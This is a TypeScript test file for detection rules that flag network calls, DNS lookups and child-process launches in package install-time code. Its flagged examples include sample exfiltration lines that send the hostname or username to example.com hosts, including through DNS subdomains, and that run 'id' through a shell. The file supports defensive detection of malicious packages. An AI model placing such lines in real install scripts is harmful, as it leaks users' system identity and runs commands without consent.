// Tests for install-time.yaml in TypeScript (install-time code).
import * as os from 'os';
// ruleid: pkg.install-time.network
import * as https from 'https';
// ruleid: pkg.install-time.network
import got from 'got';
import { request } from 'node:http2';
import { httpStatus } from './http-status';
import type { Agent } from './agent';
import { lookup } from 'dns';
// ruleid: pkg.install-time.dns
import * as dnsp from 'node:dns/promises';
import { encode } from 'dns-packet';
import { execSync } from 'child_process';
// ok: pkg.install-time.child-process
import * as cp from 'node:child_process';
import { Worker } from 'worker_threads';
import { spawnSync } from './spawn';

export async function run(body: string, agent: Agent): Promise<void> {
  // ruleid: pkg.install-time.network
  https.get({ host: 'x.example.com', agent }, () => undefined);
  // ruleid: pkg.install-time.network
  await got.post('https://collector.example.com', { body });
  // ruleid: pkg.install-time.network
  request('https://x.example.com');
  // ruleid: pkg.install-time.network
  const res: Response = await fetch(`https://x.example.com/?h=${os.hostname()}`);
  // ok: pkg.install-time.network
  const code: number = httpStatus(res.status);
  // ok: pkg.install-time.network
  const m = new Map<string, number>();
  // ok: pkg.install-time.network
  void [code, m];

  // ruleid: pkg.install-time.dns
  lookup(`${os.hostname()}.x.example.com`, () => undefined);
  // ruleid: pkg.install-time.dns
  await dnsp.resolveTxt('x.example.com');
  // ruleid: pkg.install-time.dns
  await dnsp.resolve4(os.userInfo().username + '.x.example.com');
  // ok: pkg.install-time.dns
  const packet: Buffer = encode({ type: 'query' });
  // ok: pkg.install-time.dns
  const lookupTable: Record<string, string> = {};
  // ok: pkg.install-time.dns
  void [packet, lookupTable];

  // ruleid: pkg.install-time.child-process
  execSync('id');
  // ruleid: pkg.install-time.child-process
  cp.spawn('sh', ['-c', 'id'], { detached: true }).unref();
  // ruleid: pkg.install-time.child-process
  const out: string = cp.execFileSync('uname').toString();
  // ok: pkg.install-time.child-process
  const w = new Worker('./w.js');
  // ok: pkg.install-time.child-process
  spawnSync('x');
  // ok: pkg.install-time.child-process
  cp.execFileSync('node-gyp-build', { stdio: 'inherit' });
  // ok: pkg.install-time.child-process
  void [out, w];
}
